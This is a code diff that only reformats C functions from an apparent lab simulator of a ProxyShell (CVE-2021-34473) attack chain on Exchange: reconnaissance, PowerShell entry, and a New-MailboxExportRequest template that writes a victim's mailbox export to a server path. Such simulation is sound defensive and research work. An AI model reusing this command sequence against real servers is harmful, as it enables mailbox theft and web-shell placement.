@@ -53,7 +53,7 @@ static void confused_put(struct step *s, const struct inner *in)
 static void take_test(struct step *s)
 {
 	static const struct inner test = {"/mapi/nspi?", "/mapi/nspi", "GET",
-					  NULL, 200, NULL};
+					  NULL,		 200,	       NULL};
 	unsigned n = s->spec->count ? s->spec->count : 1;
 
 	step_deed(s, STEP_RECON, "CVE-2021-34473");
@@ -65,8 +65,8 @@ static void take_test(struct step *s)
 
 static void take_attempt(struct step *s)
 {
-	static const struct inner attempt = {"/powershell/?", "/powershell",
-					     "POST", NULL, 200, NULL};
+	static const struct inner attempt = {
+		"/powershell/?", "/powershell", "POST", NULL, 200, NULL};
 	unsigned n = s->spec->count ? s->spec->count : 3;
 
 	step_deed(s, STEP_ENTRY, "CVE-2021-34473");
@@ -97,8 +97,8 @@ static void take_enter(struct step *s)
 static void shell_put(struct step *s, const char *name, const char *parameters)
 {
 	char token[80];
-	const struct inner in = {"/powershell/?", "/powershell", "POST", token,
-				 200, name};
+	const struct inner in = {"/powershell/?", "/powershell", "POST",
+				 token,		  200,		 name};
 	struct cmdlet c = {
 		.at_ns = s->at_ns,
 		.server = s->server->index,
@@ -145,8 +145,8 @@ static void take_export(struct step *s)
 		 "-Name \"%s\" -Mailbox \"%s\" -IncludeFolders (\"#Drafts#\") "
 		 "-ContentFilter \"Subject -eq '%s'\" -ExcludeDumpster \"True\""
 		 " -FilePath \"\\\\127.0.0.1\\C$%s\"",
-		 s->actor->resource, s->actor->victim->mail,
-		 s->actor->resource, p->path + 2);
+		 s->actor->resource, s->actor->victim->mail, s->actor->resource,
+		 p->path + 2);
 	shell_put(s, "New-MailboxExportRequest", parameters);
 	windows_file(s->lab, s->r, s->server->index, s->at_ns,
 		     "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\"
